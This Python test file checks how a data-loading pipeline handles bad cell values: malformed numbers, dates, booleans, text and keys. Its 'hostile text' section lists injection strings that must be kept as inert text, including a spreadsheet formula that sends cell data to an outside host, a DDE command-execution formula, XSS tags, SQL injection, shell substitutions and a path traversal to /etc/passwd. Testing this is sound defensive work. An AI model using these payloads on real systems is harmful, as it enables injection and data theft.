"""Bad cells: one stands in one field of one row, between two good rows."""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from .case import ANY, EVERY, TABLES, Bad, Case, Expected, Kept, bad, kept
from .rows import good
from .world import World, same

TYPED = ("parquet", *TABLES)  # sources that have numbers, not only their spelling


@dataclass(frozen=True)
class Cell:
    """A value in a field of one row, and what must become of the row."""

    field: str
    value: Any
    expected: Expected
    what: str
    sources: tuple[str, ...]
    group: str = "bad cells"

    def case(self) -> Case:
        return Case(self.group, f"{self.field}: {self.what}", self.sources, self._play)

    def _play(self, world: World) -> None:
        world.put([good(1001), good(1002, **{self.field: self.value}), good(1003)])
        world.pull()
        judge(world, self.field, self.expected)
        score(world)


def cell(
    field: str, value: Any, expected: Expected, what: str = "", sources: tuple[str, ...] = EVERY
) -> Cell:
    return Cell(field, value, expected, what or repr(value), sources)


def score(world: World) -> None:
    """Every stored row gets its score."""
    world.run("score", world.monitor)
    if world.ask("SELECT version_id FROM versions"):
        scored = world.ask("SELECT count(*) AS n FROM scores")[0]["n"]
        stored = sum(len(world.rows(m)) for m in ("files", "table"))
        world.must(scored == stored, f"{stored} rows are stored, {scored} scored")


def all_at_once(cells: list[Cell]) -> Callable[[World], None]:
    """All of them in one batch, each between two good rows."""

    def play(world: World) -> None:
        rows = [good(2000)]
        for n, each in enumerate(cells):
            rows += [good(2001 + 2 * n, **{each.field: each.value}), good(2002 + 2 * n)]
        world.put(rows)
        world.pull()
        aside = world.quarantined()
        for n, each in enumerate(cells):
            key = 2001 + 2 * n
            intact(world, key - 1, key + 1)
            held = key_of(world, str(key))
            if isinstance(each.expected, Bad):
                reasons = [q["reason"] for q in aside if str(key) in q["raw"]]
                fine = held is None and any(all(w in r for w in each.expected.words) for r in reasons)
                world.must(fine, f"{each.field}: {each.what}: stored {held is not None}, reasons {reasons}")
            else:
                fits(world, each.field, each.expected, str(key))
        expected = sum(isinstance(each.expected, Bad) for each in cells)
        world.must(len(aside) == expected, f"{len(aside)} rows quarantined, expected {expected}")
        score(world)

    return play


def judge(world: World, field: str, expected: Expected) -> None:
    intact(world, 1001, 1003)
    aside = world.quarantined()
    if not isinstance(expected, Bad):
        world.must(not aside, f"quarantined: {aside}")
        fits(world, field, expected, "1002")
        return
    world.must(key_of(world, "1002") is None, "the bad row was stored")
    world.must(len(aside) == 1, f"{len(aside)} rows quarantined instead of one: {aside}")
    for word in expected.words if aside else ():
        world.must(word in aside[0]["reason"], f"the reason does not say {word!r}: {aside[0]['reason']}")


def intact(world: World, *numbers: int) -> None:
    """The good rows are there, as they were given."""
    for n in numbers:
        row, given = key_of(world, str(n)), good(n)
        world.must(row is not None, f"the good row {n} was lost")
        for name in ("amount", "load", "flag", "kind", "note", "seen", "big") if row else ():
            world.must(same(row[name], given[name]), f"row {n}: {name} became {row[name]!r}")  # type: ignore[index]  # asked


def fits(world: World, field: str, expected: Expected, key: str) -> None:
    row = key_of(world, key)
    world.must(row is not None, f"{field}: the row {key} was lost")
    place = {"at": "event_at", "card": "entity"}.get(field, field)
    if row and place in row and isinstance(expected, Kept):
        world.must(expected.value is ANY or same(row[place], expected.value),
                   f"{field} became {row[place]!r}, expected {expected.value!r}")  # fmt: skip


def key_of(world: World, key: str) -> dict[str, Any] | None:
    return world.rows().get(key)


def utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)  # type: ignore[misc,arg-type]  # year, month ...


POINT, WHOLE, TIME, TRUTH = "a number with a decimal point", "a whole number", "a time as in", "true or false"
SOON, LATER = datetime.now(UTC) + timedelta(hours=1), datetime.now(UTC) + timedelta(days=2)
SOON = SOON.replace(microsecond=0)

NUMBERS = [
    cell("amount", "1,5", bad("amount: got '1,5'", POINT), "a decimal comma"),
    cell("amount", "1,234.50", bad("got '1,234.50'", POINT), "thousands with commas"),
    cell("amount", "1.234,50", bad("got '1.234,50'", POINT), "thousands with points"),
    cell("amount", "1 234", bad("got '1 234'", POINT), "thousands with spaces"),
    cell("amount", "1\u00a0234", bad(POINT), "thousands with no-break spaces"),
    cell("amount", "1'234", bad("1'234", POINT), "thousands with apostrophes"),
    cell("amount", "12%", bad("got '12%'", POINT), "a percentage"),
    cell("amount", "€12.50", bad("got '€12.50'", POINT), "a currency's sign"),
    cell("amount", "12.50 EUR", bad("got '12.50 EUR'", POINT), "a currency's code"),
    cell("amount", "(12.50)", bad("got '(12.50)'", POINT), "an accountant's minus"),
    cell("amount", "12.50-", bad("got '12.50-'", POINT), "a minus behind"),
    cell("amount", "\u221212", bad(POINT), "a typographic minus"),
    cell("amount", "0x1F", bad("got '0x1F'", POINT), "hexadecimal"),
    cell("amount", "1_000", bad("got '1_000'", POINT), "underscores"),
    cell("amount", "True", bad("got 'True'", POINT), "a truth"),
    cell("amount", "yes", bad("got 'yes'", POINT)),
    cell("amount", "1.2.3", bad("got '1.2.3'", POINT), "two points"),
    cell("amount", "--1", bad("got '--1'", POINT)),
    cell("amount", "1e", bad("got '1e'", POINT), "an exponent that is cut"),
    cell("amount", "½", bad(POINT), "a fraction"),
    cell("amount", "١٢", bad(POINT), "Arabic digits"),
    cell("amount", "１２", bad(POINT), "fullwidth digits"),
    cell("amount", "12\u200b", bad(POINT), "a zero-width space behind"),
    cell("amount", "\u202e21", bad(POINT), "a right-to-left mark before"),
    cell("amount", "🙂", bad(POINT), "an emoji"),
    cell("amount", "#DIV/0!", bad("#DIV/0!", POINT), "a spreadsheet's error"),
    cell("amount", "=1+1", bad("got '=1+1'", POINT), "a formula"),
    cell("amount", "?", bad("got '?'", POINT)),
    cell("amount", "[1, 2]", bad(POINT), "a list as text"),
    cell("amount", "inf", bad("got 'inf'", POINT)),
    cell("amount", "-Infinity", bad("got '-Infinity'", POINT)),
    cell("amount", "1e308", bad("within ±3e+38"), "1e308 as text"),
    cell("amount", "1e999", bad("1e999", POINT), "beyond float64"),
    cell(
        "amount",
        "1234567890123456789012345678901234567890",
        bad("within ±3e+38"),
        "a whole number of 40 digits",
    ),
    cell("amount", "\x07" + "1", bad(POINT), "a control character before"),
    cell("amount", float("inf"), bad("got 'inf'", POINT), "infinity of the source's own", TYPED),
    cell("amount", float("-inf"), bad("got '-inf'", POINT), "minus infinity of the source's own", TYPED),
    cell("amount", 1e308, bad("1e+308", "within ±3e+38"), "1e308 as a number", TYPED),
    cell("amount", float("nan"), kept(None), "NaN of the source's own", ("parquet", "postgresql")),
    cell("amount", 5e-324, kept(5e-324), "the least number there is", TYPED),
    cell("amount", "1e-320", kept(1e-320), "a denormal number"),
    cell("amount", "-0.0", kept(0.0), "minus zero"),
    cell("amount", "", kept(None), "empty"),
    cell("amount", "   ", kept(None), "blank"),
    cell("amount", None, kept(None), "missing"),
    cell("amount", "NaN", kept(None)),
    cell("amount", "NULL", kept(None)),
    cell("amount", "#N/A", kept(None)),
    cell("amount", " 12.5 ", kept(12.5), "spaces around"),
    cell("amount", "\t12.5", kept(12.5), "a tab before"),
    cell("amount", "+12.5", kept(12.5), "a plus before"),
    cell("amount", "1.25e1", kept(12.5), "an exponent"),
    cell("amount", "12.", kept(12.0), "a point behind"),
    cell("amount", ".5", kept(0.5), "a point before"),
    cell("amount", "007", kept(7.0), "zeros before"),
    cell(
        "amount",
        "12.1234567890123456789012345678901234567890",
        kept(12.123456789012346),
        "a decimal of 40 digits",
    ),
    cell("amount", "9223372036854775808", kept(9223372036854775808.0), "beyond 64 bits"),
]

WHOLE_NUMBERS = [
    cell("big", "9223372036854775808", bad("9223372036854775808", WHOLE, "64 bits"), "one beyond 64 bits"),
    cell("big", "-9223372036854775809", bad(WHOLE), "one below 64 bits"),
    cell("big", "1" * 40, bad(WHOLE, "64 bits"), "40 digits"),
    cell("big", "7.5", bad("got '7.5'", WHOLE)),
    cell("big", "1e18", bad("got '1e18'", WHOLE), "an exponent"),
    cell("big", "seven", bad("got 'seven'", WHOLE)),
    cell("big", "9223372036854775807", kept(9223372036854775807), "the largest of 64 bits"),
    cell("big", "-9223372036854775808", kept(-9223372036854775808), "the least of 64 bits"),
    cell("big", "1152921504606846999.0", kept(1152921504606846999), "a whole number with a point"),
    cell("big", "", kept(None), "empty"),
]

TRUTHS = [
    cell("flag", "maybe", bad("flag: got 'maybe'", TRUTH)),
    cell("flag", "2", bad("got '2'", TRUTH)),
    cell("flag", "oui", bad("got 'oui'", TRUTH)),
    cell("flag", "TRUE", kept(True)),
    cell("flag", "no", kept(False)),
    cell("flag", "", kept(None), "empty"),
]

TIMES = [
    cell("at", "", bad("at: got", TIME), "no event time"),
    cell("at", "soon", bad("got 'soon'", TIME)),
    cell("at", "0001-01-01", bad("0001-01-01", TIME, "between 1900 and 2200"), "the year 1"),
    cell("at", "9999-12-31 23:59:59", bad("9999-12-31", "between 1900 and 2200"), "the year 9999"),
    cell("at", "1899-12-31T00:00:00Z", bad("1899", "between 1900 and 2200"), "the year 1899"),
    cell("at", "2025-02-31", bad("2025-02-31", TIME), "31 February"),
    cell("at", "2025-13-01T00:00:00", bad("2025-13-01", TIME), "the month 13"),
    cell("at", "2025-03-01T24:00:01", bad(TIME), "a second past 24:00"),
    cell("at", "2025-03-01T25:00:00", bad(TIME), "25 o'clock"),
    cell("at", "2016-12-31T23:59:60Z", bad("23:59:60", TIME), "a leap second"),
    cell("at", "01/03/25 10:00", bad(TIME), "a year of two digits"),
    cell("at", "03/04/2025", bad("03/04/2025", TIME), "a day and month that cannot be told apart"),
    cell("at", "0000-00-00 00:00:00", bad("0000-00-00", TIME), "MySQL's zero"),
    cell("at", "2025-03-01T10:00:00 Mars/Phobos", bad(TIME), "a zone nobody knows"),
    cell("at", "🕙", bad(TIME), "an emoji"),
    cell("at", LATER.isoformat(), bad("at most a day ahead of the clock"), "the day after tomorrow"),
    cell("at", SOON.isoformat(), kept(SOON), "an hour ahead"),
    cell("at", "2025-03-01T10:00:00+05:30", kept(utc(2025, 3, 1, 4, 30)), "another zone"),
    cell("at", "2025-03-01 10:00:00", kept(utc(2025, 3, 1, 9)), "no zone: the configured one"),
    cell("at", "2025-03-30 02:30:00", kept(utc(2025, 3, 30, 1, 30)), "an hour that was skipped"),
    cell("at", "2025-10-26 02:30:00", kept(utc(2025, 10, 26, 0, 30)), "an hour that was there twice"),
    cell("at", "01.03.2025 10:00", kept(utc(2025, 3, 1, 9)), "day, month, year"),
    cell("at", " 2025-03-01T10:00:00Z ", kept(utc(2025, 3, 1, 10)), "spaces around"),
    cell("at", "2025-03-01T10:00:00.123456789Z", kept(utc(2025, 3, 1, 10, 0, 0, 123456)), "nanoseconds"),
    cell("at", "1740823200", kept(utc(2025, 3, 1, 10)), "seconds since 1970 among dates"),
    cell("at", "1740823200000", kept(utc(2025, 3, 1, 10)), "milliseconds since 1970 among dates"),
    cell("at", "12345", bad("got '12345'", TIME), "a small number"),
    cell("seen", "31.02.2025", bad("seen: got '31.02.2025'", TIME), "31 February"),
    cell("seen", "never", bad("seen: got 'never'", TIME)),
    cell("seen", "", kept(None), "empty"),
]

TEXTS = [
    cell("note", "x" * 10_000_000, bad("(10000000 characters)", "text of at most 65536 bytes"), "10 MB"),
    cell(
        "kind", "x" * 1500, bad("(1500 characters)", "a short text of at most 1000 bytes"), "1,500 characters"
    ),
    cell("kind", "shop\x00web", bad("NUL"), "a NUL", ("csv", "parquet", "sqlite")),
    cell("note", "a\x00b", bad("NUL"), "a NUL", ("csv", "parquet", "sqlite")),
    cell("kind", "🙂👩‍👩‍👧", kept("🙂👩‍👩‍👧"), "an emoji"),
    cell("kind", "\u202eshop", kept("\u202eshop"), "a right-to-left mark"),
    cell("kind", "sh\u200bop", kept("sh\u200bop"), "a zero-width space"),
    cell("kind", "\ufeffshop", kept("\ufeffshop"), "a byte order mark"),
    cell("kind", "  shop ", kept("shop"), "spaces around"),
    cell("kind", "", kept(None), "empty"),
    cell("kind", "nan", kept("nan"), "the word nan"),
    cell("kind", "a kind that nobody saw", kept("a kind that nobody saw"), "an unseen category"),
    cell("note", "one\x1b[31mred\x07", kept("one\x1b[31mred\x07"), "control characters"),
    cell("note", 'two\r\nlines, and "quotes"', kept('two\r\nlines, and "quotes"'), "a line break and quotes"),
    cell("note", "\\", kept("\\"), "a backslash"),
    cell("note", "e\u0301" * 200, kept("e\u0301" * 200), "composed characters"),
]

IDENTITIES = [
    cell("id", "", bad("id: got", "a key of 1 to 512 bytes without NUL"), "an empty key"),
    cell("id", None, bad("id: got", "a key of 1 to 512 bytes without NUL"), "no key"),
    cell(
        "id",
        "k" * 600,
        bad("(600 characters)", "a key of 1 to 512 bytes without NUL"),
        "a key of 600 characters",
    ),
    cell("id", "1\x002", bad("id: got '1␀2'", "without NUL"), "a key with a NUL", ("parquet", "sqlite")),
    cell(
        "card",
        "c" * 1200,
        bad("card: got", "a short text of at most 1000 bytes"),
        "an entity of 1,200 characters",
    ),
    cell("card", "", kept(None), "no entity"),
    cell("card", "🚚 <b>", kept("🚚 <b>"), "an entity of odd characters"),
    cell("fraud", "perhaps", kept(), "a truth that says nothing"),
    cell("fraud", None, kept(), "no truth"),
]

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
HOSTILE = [
    Cell(field, text, kept(text), what, sources, "hostile text")
    for field, what, text, sources in [
        ("note", "a formula", FORMULA, EVERY),
        ("kind", "a formula with @", "@SUM(1+1)*cmd|' /C calc'!A0", EVERY),
        ("card", "a script as entity", "<script>alert(1)</script>", EVERY),
        ("kind", "an image that calls home", "<img src=x onerror=alert(1)>", EVERY),
        ("note", "SQL that drops a table", "'; DROP TABLE monitors; --", EVERY),
        ("card", "SQL as entity", "c1' OR '1'='1", EVERY),
        ("note", "marks of other languages", "%s %(x)s :y {z} ${HOME} {{ 7 * 7 }} $(id) `id`", EVERY),
        ("note", "line ends that forge a log line", "ok\r\nlevel=error event=forged", EVERY),
        ("card", "a terminal's escape", "\x1b]0;owned\x07\x1b[2J", EVERY),
        ("note", "a path upwards", "../../../../etc/passwd\\..\\..", EVERY),
        ("kind", "COPY's end mark", "\\.", EVERY),
        ("note", "COPY's null mark", "\\N", EVERY),
    ]
]  # fmt: skip

CELLS = [*NUMBERS, *WHOLE_NUMBERS, *TRUTHS, *TIMES, *TEXTS, *IDENTITIES, *HOSTILE]
CASES = [each.case() for each in CELLS]
